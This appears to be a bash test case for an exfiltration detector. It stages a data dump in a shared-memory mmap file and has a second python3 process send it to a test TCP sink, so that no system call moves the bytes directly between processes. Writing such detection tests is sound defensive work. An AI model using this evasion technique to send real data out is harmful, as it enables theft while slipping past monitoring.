#!/bin/bash
# B-shm-mmap: two processes share a mapped file of /dev/shm; one copies the dump in, the other sends.
# flow: the copy is a store to memory, the send reads memory: no call moves bytes between the two.
# tools: python3
# expect: sent counted port critical
. "$CORPUS/lib.sh"
mkdump
sink tcp
shared=/dev/shm/$NAME.$$
undo "rm -f $shared"
truncate -s "$(stat -c %s "$D")" "$shared"
bg python3 -c 'import mmap, sys, time
file = open(sys.argv[1], "r+b")
pages = mmap.mmap(file.fileno(), 0)
pages[:] = open(sys.argv[2], "rb").read()
time.sleep(5)' "$shared" "$D"
sleep 1
python3 -c 'import mmap, socket, sys
file = open(sys.argv[1], "r+b")
pages = mmap.mmap(file.fileno(), 0)
socket.create_connection((sys.argv[2], int(sys.argv[3]))).sendall(pages)' "$shared" "$SINK" "$PORT"
sunk
